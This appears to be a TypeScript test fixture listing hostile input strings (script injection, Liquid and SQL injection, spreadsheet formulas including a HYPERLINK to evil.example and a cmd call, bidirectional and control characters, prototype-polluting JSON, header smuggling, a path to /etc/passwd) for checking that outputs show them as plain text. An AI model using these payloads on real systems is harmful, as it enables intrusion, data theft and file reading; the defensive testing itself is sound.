/**
 * What people type into fields to see what happens, by what it aims at. One list for all outputs: whatever is shown must be
 * shown as the text it is. `mark` stands in each, so that it can be found again wherever it went.
 */
export const mark = "K7M4R";

export const hostileTexts: Readonly<Record<string, string>> = {
  "a script": `<script>window.hostile="${mark}"</script>`,
  "an end of a script": `</script><script>window.hostile="${mark}"</script>`,
  "an end of a style and a comment": `</style>--></textarea></title><img src=x onerror="window.hostile='${mark}'">`,
  "an attribute": `" autofocus onfocus="window.hostile='${mark}'" x="`,
  "an attribute in single quotes": `' onmouseover='window.hostile="${mark}"' x='`,
  "a link that runs": `javascript:window.hostile='${mark}'`,
  "an image of SVG": `<svg/onload=window.hostile='${mark}'>`,
  "a template of Liquid": `{{ "${mark}" | upcase }}{% assign hostile = "${mark}" %}{{ shop.email }}`,
  "an end of raw Liquid": `{% endraw %}{{ shop.email }}${mark}{%- raw -%}`,
  "a template of JavaScript": "${window.hostile='" + mark + "'}`+window.hostile+`",
  "a placeholder of ours": `{{date}} {{case}} $t(actions.cancel) ${mark}`,
  "SQL": `'; DROP TABLE linked_answer; -- ${mark}`,
  "SQL in a pattern": `%' OR 1=1 --${mark}_\\`,
  "a formula": `=HYPERLINK("https://evil.example/?"&A1,"${mark}")`,
  "a formula by plus": `+1+cmd|' /C calc'!A0 ${mark}`,
  "a formula by minus": `-1+1 ${mark}`,
  "a formula by at": `@SUM(1) ${mark}`,
  "a formula after a space": `  =1+1 ${mark}`,
  "a formula after a tab": `\t=1+1 ${mark}`,
  "a formula in full width": `＝1+1 ${mark}`,
  "a formula after a line": `${mark}\r\n=1+1`,
  "cells of their own": `${mark}";"=1+1";"`,
  "bidirectional controls": `${mark} \u202Etxt.exe\u202C \u2066left\u2069 \u200Fright\u200E \u061C`,
  "invisible letters": `${mark}\u200B\uFEFF\u00AD\u2060`,
  "control characters": `${mark}\u0001\u0008\u001B[31m\u007F\u0085`,
  "a zero byte": `${mark}\u0000after`,
  "half a character": `${mark}\uD800 \uDC00`,
  "no characters": `${mark}\uFFFE\uFFFF`,
  "accents without end": `${mark}${"\u0301".repeat(60)}`,
  "JSON": `{"${mark}":1,"__proto__":{"isAdmin":true}}`,
  "a header": `${mark}\r\nSet-Cookie: hostile=1`,
  "a path": `../../../../etc/passwd%00${mark}`,
};

/** Characters that turn or hide text where it is shown, or that a database or a spreadsheet cannot take. */
export const unprintable = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069\uFEFF\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
